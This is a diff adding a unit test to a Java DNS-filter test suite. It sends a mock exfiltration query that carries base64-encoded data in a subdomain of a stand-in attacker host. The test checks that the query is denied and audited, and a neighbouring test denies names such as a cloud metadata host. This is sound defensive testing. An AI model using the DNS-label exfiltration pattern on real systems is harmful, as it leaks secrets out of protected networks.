@@ -101,6 +101,15 @@ class ClientAnswersTest {
     }
 
     @Test
+    void aQueryIsReportedWithItsNameAsAskedCaseKept() throws Exception {
+        // Data smuggled out in a label (base64 here) is case-sensitive: the audit keeps it as sent.
+        assertThat(dns.query("c2VjcmV0.Attacker.example", Type.A, false).getRcode()).isEqualTo(Rcode.NXDOMAIN);
+        RecordingListener.Query reported = dns.listener.last("c2VjcmV0.Attacker.example");
+        assertThat(reported.decision().reason()).isEqualTo(Reason.HOST_NOT_ALLOWED);
+        assertThat(reported.decision().host()).isEqualTo("c2vjcmv0.attacker.example");
+    }
+
+    @Test
     void alwaysDeniedNamesAreNxdomainToo() throws IOException {
         for (String name : List.of("localhost", "metadata.google.internal", "printer.local", "x.in-addr.arpa")) {
             assertThat(dns.query(name, Type.A, false).getRcode()).as(name).isEqualTo(Rcode.NXDOMAIN);
